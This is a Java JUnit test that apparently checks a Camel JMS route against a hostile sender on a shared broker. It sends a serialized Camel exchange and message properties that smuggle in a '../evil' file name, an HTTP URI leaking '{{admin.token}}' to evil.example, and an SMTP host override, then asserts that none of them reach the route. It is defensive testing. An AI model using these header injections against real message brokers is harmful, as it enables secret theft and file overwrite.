package io.chapar.camel;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.jms.ConnectionFactory;
import jakarta.jms.JMSContext;
import java.nio.file.Path;
import org.apache.activemq.artemis.core.config.impl.ConfigurationImpl;
import org.apache.activemq.artemis.core.server.ActiveMQServer;
import org.apache.activemq.artemis.core.server.impl.ActiveMQServerImpl;
import org.apache.activemq.artemis.jms.client.ActiveMQConnectionFactory;
import org.apache.camel.CamelContext;
import org.apache.camel.Exchange;
import org.apache.camel.builder.RouteBuilder;
import org.apache.camel.component.mock.MockEndpoint;
import org.apache.camel.impl.DefaultCamelContext;
import org.apache.camel.support.DefaultExchange;
import org.apache.camel.support.DefaultExchangeHolder;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A route that takes messages of a broker to which somebody else sends, too. */
class JmsGuardTest {
  private static final String BROKER = "vm://71";

  @TempDir Path folder;
  private ActiveMQServer server;
  private CamelContext context;
  private MockEndpoint taken;

  @BeforeEach
  void open() throws Exception {
    ConfigurationImpl configuration = new ConfigurationImpl();
    configuration.setPersistenceEnabled(false).setSecurityEnabled(false);
    configuration.setJMXManagementEnabled(false).setBrokerInstance(folder.toFile());
    configuration.addAcceptorConfiguration("in-vm", BROKER);
    server = new ActiveMQServerImpl(configuration);
    server.start();
    context = new DefaultCamelContext();
    new Components(context).jms(broker());
    context.addRoutes(
        new RouteBuilder() {
          @Override
          public void configure() {
            from("jms:queue:in").convertBodyTo(String.class).to("mock:taken");
          }
        });
    context.start();
    taken = context.getEndpoint("mock:taken", MockEndpoint.class);
  }

  @AfterEach
  void close() throws Exception {
    context.stop();
    server.stop();
  }

  private static ConnectionFactory broker() {
    return new ActiveMQConnectionFactory(BROKER);
  }

  @Test
  void aMessageBringsNoJavaObjectAndNoHeaderThatSteersCamel() throws Exception {
    taken.expectedBodiesReceived("text");
    try (JMSContext stranger = broker().createContext()) {
      stranger
          .createProducer()
          .send(stranger.createQueue("in"), stranger.createObjectMessage(held()));
      stranger
          .createProducer()
          .setProperty("CAmelFileName", "../evil")
          .setProperty("cAMELHttpUri", "http://evil.example/{{admin.token}}")
          .setProperty("mail_DOT_smtp_DOT_host", "evil.example")
          .send(stranger.createQueue("in"), "text");
    }
    taken.assertIsSatisfied();
    assertThat(taken.getExchanges().get(0).getMessage().getHeaders())
        .doesNotContainKeys(Exchange.FILE_NAME, Exchange.HTTP_URI, "mail.smtp.host");
  }

  /** An exchange of Camel's, with which a sender of CVE-2026-43866 replaces all of the route's. */
  private DefaultExchangeHolder held() {
    Exchange exchange = new DefaultExchange(context);
    exchange.getMessage().setBody("forged");
    exchange.getMessage().setHeader(Exchange.FILE_NAME, "../evil");
    return DefaultExchangeHolder.marshal(exchange);
  }
}
